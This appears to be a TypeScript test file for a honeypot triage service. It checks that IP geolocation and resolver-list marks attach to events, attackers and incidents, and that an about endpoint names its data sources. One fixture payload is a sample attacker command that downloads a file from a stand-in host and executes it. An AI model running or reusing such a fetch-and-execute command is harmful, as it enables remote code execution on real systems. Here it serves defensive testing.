import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { toMmdb } from '../geo/mmdb.ts';
import { honeypotLog, openApi } from '../support/api-client.ts';
import { openScene, type PageView } from '../support/triage.ts';

interface Located {
  source_ip: string;
  place: { country: string | null; asn: number | null; network_owner: string | null; scope: string } | null;
  marks: string[];
}

const country = (code: string): Buffer => toMmdb({ '9.0.0.0/8': { country: { iso_code: code } } });
const owner = toMmdb({
  '9.9.0.0/16': { autonomous_system_number: 19281, autonomous_system_organization: 'Quad Nine' },
  '32.0.0.0/3': { autonomous_system_number: 19281, autonomous_system_organization: 'Quad Nine' },
});

/** Files of the operator's. */
function files(t: TestContext) {
  const folder = mkdtempSync(join(tmpdir(), 'decoyverse-places-'));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  const paths = { country: join(folder, 'c.mmdb'), asn: join(folder, 'a.mmdb'), marks: folder };
  writeFileSync(paths.country, country('CH'));
  writeFileSync(paths.asn, owner);
  writeFileSync(join(folder, 'resolvers.txt'), '9.9.9.0/24\nnonsense\n');
  const env = { GEO_COUNTRY_FILE: paths.country, GEO_ASN_FILE: paths.asn, MARKS_DIR: paths.marks };
  return { paths, env };
}

describe('where a source lies', () => {
  it('stands in events, attackers and incidents, with the marks of its address', async (t) => {
    const { env } = files(t);
    const { api, node, as } = await openScene(t, { env });
    const grave = {
      ...honeypotLog,
      timestamp: new Date().toISOString(),
      activity: 'command',
      payload: 'wget http://198.51.100.9/x -O /tmp/x && chmod +x /tmp/x && /tmp/x',
    };
    const body = ['9.9.9.9', '10.1.2.3', '9.1.1.1'].map((source_ip) => ({ ...grave, source_ip }));
    await api.call('POST', '/api/events', { headers: node.headers, body });
    const expected: Record<string, Omit<Located, 'source_ip'>> = {
      '9.9.9.9': {
        place: { country: 'CH', asn: 19281, network_owner: 'Quad Nine', scope: 'global' },
        marks: ['resolvers'],
      },
      '10.1.2.3': {
        place: { country: null, asn: null, network_owner: null, scope: 'private' },
        marks: [],
      },
      '9.1.1.1': {
        place: { country: 'CH', asn: null, network_owner: null, scope: 'global' },
        marks: [],
      },
    };
    const paths = ['/api/events', '/api/attackers', '/api/incidents'];
    for (const path of paths) {
      const { items } = (await as<PageView<Located>>('GET', path)).body;
      assert.equal(items.length, 3, path);
      for (const { source_ip, place, marks } of items)
        assert.deepEqual({ place, marks }, expected[source_ip], `${path} ${source_ip}`);
    }
    const [event] = (await as<PageView<{ log_id: string }>>('GET', '/api/events?source=9.9.9.9')).body.items;
    const [incident] = (await as<PageView<{ incident_id: string }>>('GET', '/api/incidents?source=9.9.9.9'))
      .body.items;
    const one = await as<Located & { events: Located[] }>('GET', `/api/incidents/${incident?.incident_id}`);
    assert.deepEqual(one.body.place, expected['9.9.9.9']?.place);
    assert.deepEqual(one.body.events[0]?.place, expected['9.9.9.9']?.place);
    for (const path of [`/api/events/${event?.log_id}`, '/api/attacker-profile/9.9.9.9'])
      assert.deepEqual((await as<Located>('GET', path)).body.place, expected['9.9.9.9']?.place, path);
  });

  it('is nothing for a host name', async (t) => {
    const { as, touch } = await openScene(t);
    await touch('fin-laptop-07');
    const { items } = (await as<PageView<Located>>('GET', '/api/events')).body;
    assert.deepEqual([items[0]?.place, items[0]?.marks], [null, []]);
  });

  it('stays with an event as it was then, and is new for the attacker', async (t) => {
    const { env, paths } = files(t);
    const api = await openApi(t, { env });
    const user = await api.createUser();
    const node = await api.createNode(user);
    const body = { ...honeypotLog, source_ip: '9.9.9.9' };
    await api.call('POST', '/api/honeypot-log', { headers: node.headers, body });
    writeFileSync(paths.country, country('SE'));
    const again = await api.restart();
    t.after(() => again.close());
    const { headers } = user;
    const [event] = (await again.call<PageView<Located>>('GET', '/api/events', { headers })).body.items;
    const [source] = (await again.call<PageView<Located>>('GET', '/api/attackers', { headers })).body.items;
    assert.deepEqual([event?.place?.country, source?.place?.country], ['CH', 'SE']);
  });
});

describe('GET /api/about', () => {
  interface About {
    places: {
      what: string;
      origin: string;
      file: string | null;
      age_days: number;
      attributions: unknown[];
    }[];
    marks: { lists: { mark: string; networks: number; left_out: number; age_days: number }[] };
  }

  it('names the data on places, their age, and whom to thank', async (t) => {
    const { as } = await openScene(t);
    const { status, body } = await as<About>('GET', '/api/about');
    assert.equal(status, 200);
    assert.deepEqual(
      body.places.map(({ what, origin, file }) => [what, origin, file]),
      [
        ['country', 'built-in', null],
        ['owner', 'built-in', null],
      ],
    );
    assert.match(JSON.stringify(body.places[0]?.attributions), /DB-IP.*Number Resource Organization/);
    assert.ok(body.places.every(({ age_days }) => age_days >= 0));
    assert.deepEqual(body.marks, { lists: [], problem: null });
  });

  it('names the operator’s own files without their folder, and nobody else reads it', async (t) => {
    const { env } = files(t);
    const { api, as } = await openScene(t, { env });
    const { body } = await as<About>('GET', '/api/about');
    assert.deepEqual(
      body.places.map(({ origin, file, attributions }) => [origin, file, attributions]),
      [
        ['file', 'c.mmdb', []],
        ['file', 'a.mmdb', []],
      ],
    );
    const [list] = body.marks.lists;
    assert.deepEqual([list?.mark, list?.networks, list?.left_out], ['resolvers', 1, 1]);
    assert.ok(!JSON.stringify(body).includes(tmpdir()));
    assert.equal((await api.call('GET', '/api/about')).status, 401);
  });
});
